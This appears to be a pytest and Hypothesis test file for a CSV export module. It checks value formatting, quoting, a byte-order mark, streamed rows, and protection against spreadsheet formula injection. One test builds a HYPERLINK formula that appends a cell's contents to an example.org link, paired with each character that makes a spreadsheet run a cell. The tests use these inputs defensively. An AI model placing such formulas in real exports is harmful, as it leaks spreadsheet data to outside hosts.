"""CSV files open in a spreadsheet as they are, and nothing in them runs."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_files import ROWS_AT_ONCE, cell_text, csv_parts, csv_response


def written(header: list[str], rows: list[list[Any]]) -> str:
    return "".join(csv_parts(header, rows))


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("Oxford’s plan", "Oxford’s plan"),
        (12, "12"),
        (-12, "-12"),
        (Decimal("-1200.50"), "-1200.50"),
        (Decimal("1E+3"), "1000"),
        (date(2025, 10, 6), "2025-10-06"),
        (datetime(2025, 7, 6, 9, 30, 1, 5, tzinfo=UTC), "2025-07-06T10:30:01+01:00"),
        (datetime(2025, 12, 6, 9, 30, tzinfo=UTC), "2025-12-06T09:30:00+00:00"),
        ("1 - 2 = -1", "1 - 2 = -1"),
        ("jo@example.org", "jo@example.org"),
    ],
)
def test_a_cell_reads_as_what_it_is(value: Any, text: str) -> None:
    assert cell_text(value) == text


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0=", "\r\n="]
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    formula = f'{start}HYPERLINK("http://example.org/?"&A1, "Open")'
    assert cell_text(formula) == f"'{formula}"


@given(st.lists(st.lists(st.text() | st.integers() | st.none(), min_size=3, max_size=3), max_size=6))
def test_whatever_is_written_is_read_back_and_no_cell_of_text_starts_a_formula(rows: list[list[Any]]) -> None:
    back = read(written(["=A", "B", "C"], rows))
    assert back[0] == ["'=A", "B", "C"]
    for row, found in zip(rows, back[1:], strict=True):
        assert [text.removeprefix("'") if text != value else text for value, text in zip(row, found, strict=True)] == [
            "" if value is None else str(value) for value in row
        ]
        for value, text in zip(row, found, strict=True):
            assert isinstance(value, int) or not text.startswith(tuple("=+-@\t\r\n"))


def test_a_separator_in_a_cell_ends_nothing() -> None:
    """Where semicolons part cells, an unquoted one would begin a cell with a formula."""
    assert written(["A"], [['a;=1+1;"b",\nc']]) == '\ufeff"A"\r\n"a;=1+1;""b"",\nc"\r\n'


def test_a_file_begins_with_the_mark_that_excel_wants() -> None:
    assert written(["Größe"], []).encode() == b'\xef\xbb\xbf"Gr\xc3\xb6\xc3\x9fe"\r\n'


def test_a_file_for_programs_begins_with_its_first_heading() -> None:
    assert "".join(csv_parts(["Identifier"], [["1"]], mark=False)) == '"Identifier"\r\n"1"\r\n'


def test_rows_are_asked_for_only_as_they_are_sent() -> None:
    asked = []

    def rows() -> Iterator[list[int]]:
        for number in range(10 * ROWS_AT_ONCE):
            asked.append(number)
            yield [number]

    response = csv_response(name="history.csv", header=["Number"], rows=rows())
    assert asked == []
    parts = iter(response)
    next(parts)
    assert 0 < len(asked) <= ROWS_AT_ONCE
    rest = b"".join(parts).decode()
    assert rest.splitlines()[-1] == f'"{10 * ROWS_AT_ONCE - 1}"'
    assert response["Content-Disposition"] == 'attachment; filename="history.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
